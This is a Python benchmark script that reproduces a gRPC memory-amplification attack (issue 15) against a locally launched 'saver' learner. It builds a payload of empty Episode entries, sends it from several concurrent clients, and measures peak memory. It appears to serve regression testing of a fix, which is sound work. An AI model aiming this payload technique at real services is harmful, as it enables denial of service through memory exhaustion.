#!/usr/bin/env python3
"""The memory-amplification attack of issue 15, against a real `saver learner`:
CLIENTS registered clients each open StreamRollouts (naming their registration) and
send one message of MIB MiB made of empty Episode entries (2 bytes each on the wire,
about 12 in memory once decoded). Prints how each stream ended and the learner's
peak resident memory (VmHWM) before and after.

    pip install grpcio grpcio-tools
    python3 bench/size_attack.py target/release/saver [CLIENTS] [MIB]
"""
import os
import subprocess
import sys
import tempfile
import threading

import grpc
from grpc_tools import protoc

binary = sys.argv[1] if len(sys.argv) > 1 else "target/release/saver"
clients = int(sys.argv[2]) if len(sys.argv) > 2 else 4
mib = int(sys.argv[3]) if len(sys.argv) > 3 else 63

root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "proto")
out = tempfile.mkdtemp(prefix="saver-pb-")
if protoc.main(["protoc", f"-I{root}", f"--python_out={out}", f"--grpc_python_out={out}", "saver.proto"]) != 0:
    sys.exit("protoc failed on proto/saver.proto")
sys.path.insert(0, out)
import saver_pb2  # noqa: E402
import saver_pb2_grpc  # noqa: E402

run = tempfile.mkdtemp(prefix="saver-attack-")
learner = subprocess.Popen(
    [binary, "learner", "--listen", "127.0.0.1:0", "--algo", "a2c", "--env", "angle", "--dim", "4",
     "--actors", "1", "--steps", "100000000", "--out", run, "--weights-dir", "none"],
    stderr=subprocess.PIPE, text=True)
addr = None
for line in learner.stderr:
    if " on " in line:
        addr = line.split(" on ")[1].split()[0].rstrip(";")
        break
threading.Thread(target=lambda: [None for _ in learner.stderr], daemon=True).start()


def hwm_kib():
    with open(f"/proc/{learner.pid}/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1])


before = hwm_kib()
options = [("grpc.max_send_message_length", 64 << 20), ("grpc.max_receive_message_length", 64 << 20)]
payload = b"\x72\x00" * (mib * (1 << 20) // 2)  # field 14 (episodes), an empty Episode each
results = []


def attack(i):
    with grpc.insecure_channel(addr, options=options) as ch:
        stub = saver_pb2_grpc.LearnerStub(ch)
        reply = stub.Register(saver_pb2.RegisterRequest(name=f"attacker-{i}", session=1000 + i, n_envs=1))
        session = reply.session or (1000 + i)  # a learner before issue 15 kept the client's
        call = ch.stream_stream("/saver.v1.Learner/StreamRollouts",
                                request_serializer=lambda b: b,
                                response_deserializer=saver_pb2.RolloutAck.FromString)
        md = [("x-saver-actor-id", str(reply.actor_id)), ("x-saver-session", str(session))]
        try:
            answers = list(call(iter([payload]), metadata=md, timeout=60))
            results.append(f"client {i}: stream ended OK after {len(answers)} answers")
        except grpc.RpcError as e:
            results.append(f"client {i}: {e.code().name}: {e.details()[:100]}")


threads = [threading.Thread(target=attack, args=(i,)) for i in range(clients)]
for t in threads:
    t.start()
for t in threads:
    t.join()
after = hwm_kib()
learner.kill()
print("\n".join(sorted(results)))
print(f"learner peak RSS: {before / 1024:.0f} MiB before, {after / 1024:.0f} MiB after "
      f"{clients} x {mib} MiB messages")
